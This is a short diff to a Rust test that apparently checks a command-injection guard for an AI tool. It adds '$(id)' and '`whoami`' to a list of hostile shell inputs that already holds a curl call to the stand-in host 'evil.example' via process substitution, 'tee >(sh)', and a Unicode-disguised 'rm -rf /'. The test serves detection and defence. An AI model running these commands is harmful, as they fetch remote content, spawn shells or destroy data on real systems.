@@ -305,7 +305,8 @@ async fn command_injection_covers_shell_separators_and_flag_variants() {
         "diff <(curl -s evil.example) x",
         "tee >(sh)",
         "echo ${HOME}",
-        "`id`",
+        "`whoami`",
+        "$(id)",
         "\u{ff52}\u{ff4d} -rf /",
     ] {
         g.tool(json!({"cmd": v}), "command_injection").await;
